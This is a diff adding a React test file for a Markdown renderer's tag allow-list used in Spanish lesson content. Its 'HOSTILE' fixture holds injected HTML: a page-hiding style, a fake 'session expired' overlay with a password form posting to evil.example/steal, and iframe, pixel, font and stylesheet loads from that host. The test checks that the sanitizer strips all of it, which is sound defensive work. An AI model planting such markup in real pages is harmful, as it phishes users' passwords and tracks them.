@@ -1,0 +1,47 @@
+import { render } from '@testing-library/react';
+import { Markdown, renderLessonMarkdown } from './markdown';
+
+const LESSON = `## Conceptos
+
+Un párrafo con **negrita** y *cursiva*.
+
+- uno
+- dos
+
+3. tres
+4. cuatro
+
+> Una cita.
+`;
+
+const HOSTILE = `
+<style>body { display: none }</style>
+<div style="position:fixed;inset:0;z-index:9999;background:white">Su sesión expiró</div>
+<form action="https://evil.example/steal"><input name="password" type="password"><button>Ingresar</button></form>
+<iframe src="https://evil.example"></iframe>
+<img src="https://evil.example/pixel.png">
+<a href="https://evil.example">enlace</a>
+<svg><style>@font-face{src:url(https://evil.example/f.woff)}</style></svg>
+<link rel="stylesheet" href="https://evil.example/x.css">
+<p class="sr-only" id="x" style="color:red" data-x="1" aria-hidden="true">texto</p>
+`;
+
+describe('Markdown (lesson allow-list)', () => {
+  it('keeps every element lessons use', () => {
+    const html = renderLessonMarkdown(LESSON);
+    for (const tag of ['h2', 'p', 'strong', 'em', 'ul', 'ol', 'li', 'blockquote']) expect(html).toContain(`<${tag}`);
+    expect(html).toContain('<ol start="3">');
+  });
+
+  it('drops style, forms, frames, images, links and every attribute but a list start, keeping the words', () => {
+    const { container } = render(<Markdown source={HOSTILE} />);
+    const root = container.firstElementChild!;
+    for (const selector of ['style', 'form', 'input', 'button', 'iframe', 'img', 'a', 'svg', 'link', 'div div', '[style]', '[class]', '[id]', '[data-x]', '[aria-hidden]']) {
+      expect({ selector, found: root.querySelectorAll(selector).length }).toEqual({ selector, found: 0 });
+    }
+    expect(root.textContent).toContain('Su sesión expiró');
+    expect(root.textContent).toContain('enlace');
+    expect(root.textContent).not.toContain('display: none');
+    expect(root.textContent).not.toContain('@font-face');
+  });
+});
